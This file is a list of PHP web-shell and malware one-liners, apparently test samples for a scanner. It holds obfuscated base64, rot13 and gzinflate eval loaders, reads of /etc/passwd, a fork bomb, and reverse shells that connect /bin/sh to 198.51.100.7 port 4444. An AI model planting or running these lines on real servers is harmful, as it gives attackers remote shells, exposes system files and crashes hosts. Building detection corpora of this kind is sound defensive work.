<?php function u($s) { return GZUNCOMPRESS( Base64_Decode( $s ) ); } $x = u('eJw='); eval ($x); ?>
<?php $c = str_rot13 ( base64_decode ( 'cGhw' ) ); @EVAL( $c ); ?>
<?php $c = Base64_Decode(Str_Rot13('pTuj')); eval($c); ?>
<?php $c = gzinflate( str_rot13( $blob ) ); /* run */ eval( $c ); ?>
<?php function d($s) { $s = base64_decode($s); for ($i = 0; $i < strlen($s); $i++) { $s[$i] = CHR( ORD( $s[$i] ) - 1 ); } return $s; } eval( $s = d('cQ==') ); ?>
<?php echo "<pre>" . File_Get_Contents( "/etc/passwd" ) . "</pre>"; ?>
<?php @ReadFile('/etc/passwd'); ?>
<?php WHILE ( 1 ) PCNTL_FORK ( ) ; ?>
<?php $s = FSockOpen("198.51.100.7", 4444); $p = Proc_Open("/bin/sh", array(0 => $s, 1 => $s, 2 => $s), $pipes); ?>
<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); $p = proc_open('/bin/sh -i', array(), $pipes); ?>
<?php $s = fsockopen("198.51.100.7", 4444); exec("/bin/sh -i <&3 >&3 2>&3"); ?>
